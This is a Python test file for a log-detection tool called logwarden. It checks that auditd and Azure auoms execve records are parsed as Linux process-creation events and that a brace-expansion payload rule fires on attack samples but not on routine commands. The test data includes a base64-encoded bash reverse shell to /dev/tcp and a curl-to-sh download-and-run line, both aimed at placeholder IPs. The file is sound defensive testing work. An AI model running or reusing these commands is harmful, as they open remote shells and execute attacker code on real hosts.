"""Linux process creation: auditd EXECVE records and auoms' joined execve records (as Azure Log
Analytics keeps them in its Syslog table) read as linux/process_creation, and logwarden's rules of
app/detect/data/linux_execution.yml on them. Events go through the real parsers; each rule meets
the attack as it was logged (values anonymised) and routine commands that look like it."""
from __future__ import annotations

import json

from _rule_events import by_rule

from logwarden.app.detect import Detector
from logwarden.app.detect.logsource import route_of
from logwarden.app.events import LogLine
from logwarden.app.parse import parse_lines
from logwarden.app.parse.sniff import detect_format

PAYLOAD = "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjYvNDQzIDA+JjEK}|{base64,-d}|{bash,-i}"


def auoms_row(cmdline: str, *, exe: str = "/bin/bash", comm: str = "bash", success: str = "yes",
              line_no: int = 1) -> LogLine:
    """One Log Analytics Syslog row holding an auoms execve record, as the export writes it."""
    message = (f'type=AUOMS_EXECVE audit(1652292621.990:{84143 + line_no}): SchemaVersion="1" auoms_version=2.5.2.0 '
               f'node=WEB01 arch=x86_64 syscall=execve syscall_r=59 success={success} exit=0 a0=7fcd3bdfb8e0 '
               f'a1=7fcd3027b7b0 a2=7ffccab2a7d8 a3=b ppid=1340 pid={17790 + line_no} audit_user=unset '
               f'auid=4294967295 user=tomcat uid=1001 group=tomcat gid=1001 tty=(none) ses="-1" comm="{comm}" '
               f'exe="{exe}" key=auoms,delete cwd="/" name="{exe}" nametype=NORMAL '
               f'path_name=["{exe}","/lib64/ld-linux-x86-64.so.2"] argc=3 cmdline="{cmdline}" redactors= containerid=')
    row = {"TenantId": "redacted", "SourceSystem": "Linux", "TimeGenerated": "2022-05-11T18:10:21.997Z",
           "Computer": "WEB01", "Facility": "user", "HostName": "WEB01", "SeverityLevel": "info",
           "SyslogMessage": message, "HostIP": "192.0.2.5", "ProcessName": "auoms", "Type": "Syslog",
           "EventType": "AUOMS_EXECVE", "EventData": message.split("): ", 1)[1]}
    return LogLine("syslog_export.json", 0, 0, line_no, json.dumps(row))


def audit_execve(args: list[str], line_no: int = 1) -> LogLine:
    argv = " ".join(f'a{i}="{a}"' for i, a in enumerate(args))
    return LogLine("audit.log", 0, 0, line_no,
                   f"type=EXECVE msg=audit(1700000000.{line_no:03d}:{900 + line_no}): argc={len(args)} {argv}")


def test_an_auoms_row_is_an_execve_with_its_command_line_and_routes_as_process_creation():
    line = auoms_row(f'bash -c "{PAYLOAD}"')
    assert detect_format([line.text]).name == "json"
    [event] = parse_lines([line], "json")
    assert event.format == "auditd" and event.host == "WEB01" and event.raw == line.text
    fields = event.fields
    assert fields["type"] == "EXECVE" and fields["auoms_type"] == "AUOMS_EXECVE"
    # the command line keeps its inner quotes; a0… are its words, not the syscall's registers
    assert fields["cmdline"] == f'bash -c "{PAYLOAD}"'
    assert [fields["a0"], fields["a1"]] == ["bash", "-c"] and fields["exe"] == "/bin/bash"
    assert fields["user"] == "tomcat" and fields["pid"] == 17791 and fields["ppid"] == 1340
    assert not any(key.startswith(("YmFz", "MQo", "JjEK")) for key in fields)  # no pairs cut out of the payload
    route = route_of(event)
    assert "process_creation" in route.categories and "auditd" in route.services
    assert route.alias_map()["Image"] == "exe" and route.alias_map()["CommandLine"] == "cmdline"


def test_other_audit_records_stay_auditd_only():
    [event] = parse_lines([LogLine("audit.log", 0, 0, 1, 'type=USER_LOGIN msg=audit(1700000000.001:1): pid=1 '
                                    "uid=0 msg='op=login acct=\"bob\" exe=\"/usr/sbin/sshd\" res=failed'")], "auditd")
    assert "process_creation" not in route_of(event).categories


def test_brace_expansion_payload_in_an_auoms_row_and_in_audit_log(rules):
    detector = Detector(rules)
    [row] = parse_lines([auoms_row(f'bash -c "{PAYLOAD}"')], "json")
    assert [(s.level, s.line_numbers) for s in by_rule(detector.scan([row]), "lw-linux-brace-expansion-payload")] \
        == [("high", [1])]
    [record] = parse_lines([audit_execve(["bash", "-c", "{curl,-fsSL,http://198.51.100.7/x}|{sh}"])], "auditd")
    assert by_rule(Detector(rules).scan([record]), "lw-linux-brace-expansion-payload")


def test_routine_brace_expansion_and_base64_decoding_stay_quiet(rules):
    quiet = [auoms_row("tar czf /backup/etc.tgz /etc/{hosts,fstab,hostname}", exe="/bin/tar", comm="tar"),
             auoms_row("sh -c echo aGVsbG8K | base64 -d > /tmp/greeting", exe="/bin/sh", comm="sh", line_no=2),
             auoms_row("mkdir -p /srv/app/{logs,cache,tmp}", exe="/bin/mkdir", comm="mkdir", line_no=3)]
    events = list(parse_lines(quiet, "json"))
    events += list(parse_lines([audit_execve(["bash", "-c", "cp app.conf{,.bak} | tee -a /var/log/deploy"])], "auditd"))
    assert by_rule(Detector(rules).scan(events), "lw-linux-brace-expansion-payload") == []
